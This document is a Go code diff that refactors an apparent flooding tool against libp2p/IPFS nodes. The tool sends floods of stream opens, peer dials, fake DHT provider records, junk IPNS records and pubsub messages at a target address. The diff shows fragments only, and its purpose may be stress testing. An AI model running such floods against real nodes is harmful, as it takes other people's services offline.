@@ -5,7 +5,6 @@ import (
 	"encoding/base64"
 	"encoding/binary"
 	"fmt"
-	"io"
 	"net"
 	"strconv"
 	"time"
@@ -20,11 +19,6 @@ import (
 )
 
 func toProtocol(name string) protocol.ID { return protocol.ID(name) }
-
-// Reads what the target sends over Bitswap, and forgets it.
-func discard(host host.Host) {
-	host.SetStreamHandler(bitswapProtocol, func(stream network.Stream) { _, _ = io.Copy(io.Discard, stream) })
-}
 
 // Takes a stream and reads nothing from it.
 func holdStream(ctx context.Context) network.StreamHandler {
@@ -58,12 +52,7 @@ func floodOfStreams(a *attack) {
 
 // New identities that connect and go.
 func floodOfDials(a *attack) {
-	a.many(16, func(int) error {
-		host, err := newHost()
-		if err != nil {
-			return err
-		}
-		defer host.Close()
+	a.fromPeers(16, func(_ int, host host.Host) error {
 		if _, err := connect(host, a.address); err != nil {
 			return err
 		}
@@ -131,11 +120,7 @@ func floodOfProviders(a *attack) {
 		address, _ := multiaddr.NewMultiaddr(fmt.Sprintf("/ip4/10.0.%d.%d/tcp/4001", i/250, i%250))
 		addresses = append(addresses, address.Bytes())
 	}
-	a.many(4, func(int) error {
-		stream, err := a.open(kadProtocol)
-		if err != nil {
-			return err
-		}
+	a.onStreams(4, kadProtocol, func(_ int, stream network.Stream) error {
 		return a.flood(stream, "provider records", func() []byte {
 			return framed(kadAddProvider(randomCid().Hash(), []byte(a.host.ID()), addresses))
 		})
@@ -144,12 +129,8 @@ func floodOfProviders(a *attack) {
 
 // Records of names, none of them good.
 func floodOfValues(a *attack) {
-	a.many(4, func(int) error {
-		stream, err := a.open(kadProtocol)
-		if err != nil {
-			return err
-		}
-		go func() { _, _ = io.Copy(io.Discard, stream) }()
+	a.onStreams(4, kadProtocol, func(_ int, stream network.Stream) error {
+		go discardStream(stream)
 		return a.flood(stream, "records", func() []byte {
 			key := append([]byte("/ipns/"), newName().id...)
 			return framed(kadPutValue(key, randomBytes(9000)))
@@ -172,11 +153,7 @@ func floodOfMessages(a *attack) {
 	topic := "/record/" + base64.RawURLEncoding.EncodeToString(append([]byte("/ipns/"), name...))
 	key := a.host.Peerstore().PrivKey(a.host.ID())
 	number := uint64(0)
-	a.many(1, func(int) error {
-		stream, err := a.open(pubsubProtocol)
-		if err != nil {
-			return err
-		}
+	a.onStreams(1, pubsubProtocol, func(_ int, stream network.Stream) error {
 		subscription := numberField(nil, 1, 1)
 		if _, err := stream.Write(framed(bytesField(nil, 1, bytesField(subscription, 2, []byte(topic))))); err != nil {
 			return err
@@ -202,11 +179,7 @@ func pubsubMessage(key crypto.PrivKey, from []byte, number uint64, topic string,
 
 // Listens to topics without end.
 func floodOfTopics(a *attack) {
-	a.many(1, func(int) error {
-		stream, err := a.open(pubsubProtocol)
-		if err != nil {
-			return err
-		}
+	a.onStreams(1, pubsubProtocol, func(_ int, stream network.Stream) error {
 		return a.flood(stream, "messages", func() []byte {
 			message := []byte{}
 			for range 1000 {
